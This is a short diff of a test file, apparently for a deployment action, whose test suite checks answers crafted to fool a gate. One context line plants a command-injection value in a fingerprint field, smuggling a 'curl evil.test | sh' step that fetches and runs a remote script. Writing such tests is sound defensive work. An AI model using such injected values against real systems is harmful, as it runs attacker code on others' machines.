@@ -318,6 +318,9 @@ describe('answers that would fool a gate', () => {
       // A minimal answer names no replaced artifact: the tampered one names this one alone.
       const replaced = (answer.replaced_artifact ?? {}) as Record<string, unknown>;
       answer.replaced_artifact = { ...replaced, fingerprint: '"; curl evil.test | sh; echo "' };
+      // Named as asked, so the step reads it (a minimal answer names neither: not confirmed).
+      answer.fingerprint = BACKEND_150;
+      answer.env_name = 'staging';
     });
     const result = await runAction('get-deployment', {
       inputs: { ...connection(sandbox.url), environment: 'staging', fingerprint: BACKEND_150 },
